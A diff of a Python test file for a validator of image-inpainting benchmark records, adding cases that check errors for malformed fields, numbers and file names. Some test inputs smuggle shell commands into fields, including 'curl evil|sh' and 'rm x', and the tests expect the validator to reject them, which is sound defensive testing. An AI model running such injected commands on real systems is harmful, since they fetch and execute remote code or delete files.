@@ -21,7 +21,13 @@ from palimpsest.results import records
 RUN = "runs/deepfill-v1.json"
 VALUES = "runs/deepfill-v1.npz"
 SCHEDULE = {"schedule": {"phases": [{"iterations": 10}, {"iterations": 20}]}}
+DESCRIBED = {"name": "deepfill-v1", "model": "m", "settings": SCHEDULE}
 HOLE = ("result", "holes", "rectangle", "psnr_hole")
+NO_PNG = "asked for a PNG, found another format, too many pixels, or a file cut short or damaged"
+SEEDS, ENDS = ("result", "by_seed", "rectangle"), ("result", "intervals", "rectangle")
+TIMED, ON_CPU = ("found", "gl"), ("found", "gl", "measured", "cpu")
+PASSES = {"seconds": 2.0, "fastest": 1.5, "peak_mib": 100.0}
+COUNTED = {"runs": ["gl"], "parameters": 6_072_131, "structure": "a", "idle": [], "multiply_adds": {"512": 10**9}}
 
 
 def zipped(path: Path, *members: tuple[str, bytes], method=zipfile.ZIP_DEFLATED) -> None:
@@ -54,25 +60,67 @@ def test_a_record_as_it_is_written_has_no_fault(folder, known):
         (RUN, ("made", "commit"), "main", "made.commit is 'main'; accepted: a commit, 40 hexadecimal digits"),
         (RUN, ("made", "date"), "today", "made.date is 'today': no time; accepted: a time in UTC from 2026 until now"),
         (RUN, ("made", "threads"), -3, "made.threads is -3; accepted: a number above 0"),
-        (RUN, ("made", "device"), " ", "made.device is ' '; accepted: some text"),
+        (RUN, ("made", "threads"), 10**6, "made.threads is 1000000; accepted: 4096 or less"),
+        (RUN, ("made", "device"), " ", "made.device is ' '; accepted: one line of text, at most 200 characters"),
+        (RUN, ("made", "device"), "a\nb", r"made.device is 'a\nb'; accepted: one line of text"),
+        (RUN, ("made", "device"), "a" * 201, "accepted: one line of text, at most 200 characters"),
+        (RUN, ("made", "versions"), {"torch": "9\r1"}, "made.versions.torch is"),
+        (RUN, ("described", "stage"), "evaluate@x; curl evil|sh; echo ", "described.stage is 'evaluate@x; curl evil"),
+        (RUN, ("described", "stage"), "transfer", "described.stage is 'transfer'; accepted: evaluate"),
+        (RUN, ("described", "run", "name"), "gl", "described.run.name is 'gl'; accepted: deepfill-v1"),
+        (RUN, ("described", "parameters", "generator"), -1, "parameters.generator is -1; accepted: 0 or more"),
+        (RUN, ("result", "model"), "nope", "result.model is 'nope'; accepted: described.run.model, 'm'"),
         (RUN, ("result", "run"), "crfill", "result.run is 'crfill'; accepted: deepfill-v1"),
         (RUN, ("result", "settings"), "b" * 64, "accepted: described.settings"),
-        (RUN, ("result", "images"), 10**12, "found dataset, size, images, photos"),
-        (RUN, ("result", "images"), -1, "found dataset, size, images, photos"),
+        (RUN, ("result", "images"), 10**12, "result.images is 1000000000000; accepted: 1000000 or less"),
+        (RUN, ("result", "images"), -1, "result.images is -1; accepted: a number above 0"),
+        (RUN, ("result", "photos"), 3, "found dataset, size, images, photos"),
         (RUN, ("result", "seeds"), [], "result.seeds"),
         (RUN, ("result", "seeds"), [1, 1, 1], "result.seeds is [1, 1, 1]: 1 appears twice; accepted: each value once"),
         (RUN, ("result", "seeds"), [-1], "result.seeds.0 is -1; accepted: 0 or more"),
         (RUN, ("result", "seeds"), [1, 2], "result: by_seed.rectangle.l1 is not a mean for each seed"),
         (RUN, ("result", "intervals", "rectangle", "psnr"), [1.0], "intervals.rectangle.psnr is not 4 numbers"),
         (RUN, ("values", "rectangle"), ["nothing"], "values.rectangle: found 'nothing'; accepted: l1"),
+        (RUN, ("result", "holes"), {}, "result.holes is {}; accepted: 1 value or more"),
+        (RUN, ("result", "holes", "rectangle"), {}, "result.holes.rectangle is {}; accepted: 1 value or more"),
+        (RUN, ("result", "hole_ratios", "rectangle"), 0.99, "rectangle is 0.99; accepted: 0.2, as its like"),
+        (RUN, (*SEEDS, "psnr_hole"), [99.0], "by_seed.rectangle.psnr_hole is 99.0 with seed 1; accepted: 17.6"),
+        (RUN, (*SEEDS, "l2_raw"), [99.0], "by_seed.rectangle.l2_raw is [99.0]; accepted: numbers whose mean is 21"),
+        (RUN, (*SEEDS, "beauty"), [1.0], "by_seed.rectangle.beauty has no mean in holes.rectangle"),
+        (RUN, (*ENDS, "psnr_hole"), [0.0, 99.0, 24, 0], "is 0.0 to 99.0; accepted: about 17.65 to 17.65, the"),
+        (RUN, (*ENDS, "l2_raw"), [99.0, 99.0, 24, 0], "l2_raw is 99.0 to 99.0; accepted: about the mean, 21"),
+        (RUN, (*ENDS, "l2_raw"), [19.0, 17.0, 24, 0], "l2_raw is 19.0 to 17.0; accepted: the lower number first"),
+        (RUN, (*ENDS, "l2_raw"), [17.0, 19.0, 25, -1], "counts 25 values and -1 undefined ones; accepted: the 24"),
+        (RUN, (*ENDS, "l2_raw"), [17.0, 19.0, 23, 0], "l2_raw counts 23 values and 0 undefined ones; accepted: the 24"),
+        (RUN, (*ENDS, "psnr_hole"), [17.6, 17.7, 20, 4], "psnr_hole counts 20 pictures; accepted: 24, the number"),
         (RUN, HOLE, 99.0, "result.holes.rectangle.psnr_hole is 99.0; accepted: 17.6"),
+        (RUN, HOLE, float("-inf"), "result.holes.rectangle.psnr_hole is -inf; accepted: a finite number"),
         (RUN, HOLE, float("nan"), "result.holes.rectangle.psnr_hole is no number"),
         (RUN, ("result", "holes", "rectangle", "l2_raw"), float("inf"), "rectangle.l2_raw is inf; accepted: a finite"),
-        (RUN, ("result", "holes", "square"), {}, "result: holes, intervals and hole_ratios differ in 'square'"),
+        (RUN, ("result", "hole_ratios", "square"), 0.1, "holes, by_seed, intervals and hole_ratios differ in"),
+        ("record.json", ("profile",), "tiny; rm x", "profile is 'tiny; rm x'; accepted: a name of small letters"),
+        ("record.json", ("slots",), {}, "slots is {}; accepted: 1 value or more"),
         ("benchmark.json", ("rounds",), "one", "rounds is 'one'; accepted: a whole number"),
+        ("benchmark.json", ("devices",), {}, "devices.cpu is missing; accepted: the name of the processor"),
+        ("benchmark.json", ("devices", "tpu"), "A", "devices.tpu is 'tpu'; accepted: 'cpu' or 'cuda'"),
+        ("benchmark.json", (*TIMED, "parameters"), 0, "found.gl.parameters is 0; accepted: a number above 0"),
+        ("benchmark.json", (*TIMED, "runs"), [], "found.gl.runs is []; accepted: 1 value or more"),
+        ("benchmark.json", (*TIMED, "multiply_adds"), {}, "found.gl: multiply_adds.512 is missing; accepted: a count"),
+        ("benchmark.json", (*TIMED, "multiply_adds", "512"), 0, "multiply_adds.512 is 0; accepted: a number above 0"),
+        ("benchmark.json", (*TIMED, "measured", "cuda"), {}, "found.gl.measured has cuda; accepted: cpu"),
+        ("benchmark.json", (*ON_CPU, "abc"), PASSES, "cpu.abc is 'abc'; accepted: the side of a picture in px"),
+        ("benchmark.json", (*ON_CPU, "512"), "no idea", "cpu.512 is 'no idea'; accepted: "),
+        ("benchmark.json", (*ON_CPU, "512"), {"seconds": 1.0, "fastest": 1.0}, "cpu.512.peak_mib is missing"),
+        ("benchmark.json", (*ON_CPU, "512"), {"seconds": 1.0, "peak_mib": 1.0}, "cpu.512.fastest is missing"),
+        ("benchmark.json", (*ON_CPU, "512", "seconds"), 0, "cpu.512.seconds is 0; accepted: a number above 1e-09"),
+        ("benchmark.json", (*ON_CPU, "512", "seconds"), -1.0, "cpu.512.seconds is -1.0; accepted: a number above"),
+        ("benchmark.json", (*ON_CPU, "512", "seconds"), float("nan"), "cpu.512.seconds is nan; accepted: "),
+        ("benchmark.json", (*ON_CPU, "512", "fastest"), 9.0, "fastest is 9.0; accepted: at most the median, sec"),
     ],
 )  # fmt: skip
 def test_a_wrong_value_is_named_with_its_file_and_key(folder, known, file, keys, to, line):
+    edit(folder / "benchmark.json", "found", to={"gl": {**COUNTED, "measured": {"cpu": {"512": PASSES}}}})
+    assert check(folder, known) == []
     edit(folder / file, *keys, to=to)
     found = check(folder, known)
     assert any(str(folder) in each and line in each for each in found), found
@@ -126,22 +174,59 @@ def test_a_ledger_without_claims_is_one_line_and_one_that_is_all_wrong_a_few(fol
     ],
 )  # fmt: skip
 def test_rows_that_cannot_be_are_named(folder, known, name, text, line):
-    edit(folder / RUN, "described", "run", to={"name": "deepfill-v1", "settings": SCHEDULE})
+    edit(folder / RUN, "described", "run", to=DESCRIBED)
     (folder / name).write_text(text((folder / name).read_text()))
     (found,) = check(folder, known)
     assert found.startswith(f"{folder / name}: ") and line in found
 
 
 def test_curves_of_what_a_run_needs_have_its_first_seed(folder, known):
-    needed = {"name": "coarse", "settings": SCHEDULE, "start": None}
-    edit(folder / RUN, "described", "run", to={"name": "deepfill-v1", "settings": SCHEDULE, "inside": needed})
+    needed = {"name": "coarse", "model": "m", "settings": SCHEDULE, "start": None}
+    edit(folder / RUN, "described", "run", to={**DESCRIBED, "inside": needed})
     (folder / "curves.csv").write_text("run,seed,iteration,db\ncoarse,1,30,0.5\ndeepfill-v1,1,30,0.5\n")
     assert check(folder, known) == []
     (folder / "curves.csv").write_text("run,seed,iteration,db\ncoarse,2,30,0.5\n")
     assert check(folder, known) == [f"{folder / 'curves.csv'}: coarse: found seed 2; accepted: 1"]
-    edit(folder / RUN, "described", "run", to={"inside": "coarse"})
-    (line,) = check(folder, known)[:1]
-    assert line == f"{folder / RUN}: described.run.inside is 'coarse'; accepted: a mapping of keys to values"
+    edit(folder / RUN, "described", "run", to={**DESCRIBED, "inside": "coarse"})
+    wrong = f"{folder / RUN}: described.run.inside is 'coarse'; accepted: a mapping of keys to values"
+    assert check(folder, known) == [wrong]
+
+
+def test_curves_of_a_run_that_trains_nothing_are_one_line_for_all_its_seeds(folder, known):
+    (folder / "curves.csv").write_text("run,seed,iteration,db\ngl,1,30,0.5\ngl,2,30,0.5\n")
+    (line,) = check(folder, known)
+    assert line.endswith(
+        ": found run 'gl', which no training on record has; accepted: none, as no run on record has one"
+    )
+
+
+def test_a_run_that_is_trained_has_something_to_train(folder, known):
+    edit(folder / RUN, "described", "run", to=DESCRIBED)
+    edit(folder / RUN, "described", "parameters", to={})
+    wrong = f"{folder / RUN}: described.parameters has none; accepted: those of what the run trains"
+    assert wrong in check(folder, known)
+
+
+def test_values_without_a_mean_say_what_has_one(folder, known):
+    edit(folder / RUN, "values", to=lambda values: {"centre-50": values["rectangle"]})
+    assert check(folder, known) == [f"{folder / RUN}: values: found 'centre-50'; accepted: rectangle"]
+
+
+def test_files_of_runs_are_called_as_runs_can_be(folder, known):
+    for name in ("a b;c", "UPPER"):
+        path = (folder / RUN).rename(folder / "runs" / f"{name}.json")
+        (line,) = check(folder, known)
+        assert line == f"{path}: found {name!r}; accepted: a name of small letters, digits and hyphens"
+        path.rename(folder / RUN)
+    other = folder.rename(folder.with_name("two words"))
+    assert check(other, known) == [f"{other}: found 'two words'; accepted: a name of small letters, digits and hyphens"]
+
+
+@pytest.mark.parametrize("name", ["record.json", "benchmark.json", "stages.csv", "curves.csv", VALUES, "claims.csv"])
+def test_a_file_that_is_missing_is_one_line_that_names_it_once(folder, known, name):
+    (folder / name).unlink()
+    (line,) = check(folder, known)
+    assert line.startswith(f"{folder / name}: ") and line.count(name) == 1 and "Errno" not in line
 
 
 def test_a_run_on_the_pictures_of_another_slot_is_named(folder, known):
@@ -248,7 +333,7 @@ def test_pictures_are_small_pngs(folder, known):
         (line,) = check(folder, known)
         assert line.startswith(f"{path}: ") and "\n" not in line
     Image.new("RGB", (8, 8)).save(path, "JPEG")
-    assert "asked for a PNG" in check(folder, known)[0]
+    assert check(folder, known) == [f"{path}: {NO_PNG}"]
     path.unlink()
     assert check(folder, known) == [f"{path}: not found"]
 
@@ -270,5 +355,5 @@ def test_deep_settings_are_no_trouble(folder, known):
     deep: dict = {}
     for _ in range(300):
         deep = {"a": deep}
-    edit(folder / RUN, "described", "run", to=deep)
+    edit(folder / RUN, "described", "run", to={**DESCRIBED, "settings": deep})
     assert check(folder, known) == [] and json.loads((folder / RUN).read_text())
